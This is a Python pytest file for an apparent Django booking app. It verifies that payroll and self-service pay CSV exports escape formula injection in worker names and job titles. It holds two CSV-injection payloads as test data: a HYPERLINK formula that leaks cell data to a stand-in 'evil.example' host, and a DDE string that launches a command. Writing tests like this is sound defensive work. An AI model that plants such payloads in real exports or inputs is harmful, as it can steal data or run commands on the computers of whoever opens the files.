"""A worker's name or a call's title cannot become a formula in the pay CSVs."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from stagedoor.booking.pay import export as pay_export
from stagedoor.booking.pay import selectors as pay

from .test_timesheets import approved, crew  # noqa: F401 (the fixture)

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
TITLE = "=cmd|' /C calc'!A0"


def test_payroll_and_pay_csvs_neutralise_formulas(client, crew):  # noqa: F811
    crew.alex.display_name = NAME
    crew.alex.save(update_fields=["display_name"])
    crew.booking.position.title = TITLE
    crew.booking.position.save(update_fields=["title"])
    approved(crew)
    summary = pay.pay_for_organisation(
        actor=crew.manager,
        organisation=crew.org,
        start_date=dt.date(2026, 11, 1),
        end_date=dt.date(2026, 11, 30),
    )
    rows = list(csv.reader(io.StringIO(pay_export.payroll_csv(summary))))
    alex = [r for r in rows if r[1] == "alex"]
    assert [(r[0], r[4]) for r in alex] == [
        ("'" + NAME, "'" + TITLE),
        ("'" + NAME, "'" + TITLE),
        ("'" + NAME, ""),
    ]
    client.force_login(crew.alex.user)
    mine = client.get("/me/pay/?from=2026-11-01&to=2026-11-30&format=csv").content.decode()
    assert [r[0] for r in csv.reader(io.StringIO(mine))][1:] == ["'" + NAME] * 3
